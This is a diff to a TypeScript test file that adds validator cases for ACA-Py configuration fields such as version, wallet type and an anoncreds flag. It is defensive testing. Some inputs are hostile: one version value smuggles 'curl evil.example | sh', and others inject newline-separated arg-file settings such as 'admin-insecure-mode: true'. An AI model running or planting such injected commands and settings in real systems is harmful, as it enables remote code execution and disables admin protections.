@@ -273,6 +273,33 @@ const CLASSES: Record<string, Case[]> = {
       /^acapy\.healthCheck\.adminPath: expected an HTTP path/,
     ],
   ],
+  'the ACA-Py that runs': [
+    [
+      'an ACA-Py version with a shell word',
+      edit(['acapy', 'version'], '1.3.0; curl evil.example | sh'),
+      /^acapy\.version: expected an ACA-Py release such as 1\.3\.0/,
+    ],
+    [
+      'an ACA-Py version with a newline (a second arg-file line)',
+      edit(['acapy', 'version'], '1.3.0\nwallet-type: x'),
+      /^acapy\.version: expected an ACA-Py release such as 1\.3\.0/,
+    ],
+    [
+      'a wallet type that would write a second arg-file setting',
+      edit(['acapy', 'walletType'], 'askar\nadmin-insecure-mode: true'),
+      /^acapy\.walletType: expected one of "askar", "askar-anoncreds", "kanon-anoncreds"/,
+    ],
+    [
+      'IS_ANONCREDS that the wallet cannot issue in',
+      exampleWith([['acapy', 'walletType'], 'askar'], [['locust', 'isAnoncreds'], true]),
+      /^locust\.isAnoncreds: IS_ANONCREDS=True, but acapy\.walletType askar cannot issue/,
+    ],
+    [
+      "Akrida's worker compose file that cannot build at the pinned commit",
+      edit(['source', 'compose', 'worker'], 'worker.docker-compose.yml'),
+      /^source\.compose\.worker: Akrida 404c7a16's worker\.docker-compose\.yml cannot run/,
+    ],
+  ],
   'numbers and limits': [
     [
       'a TTL of seconds',
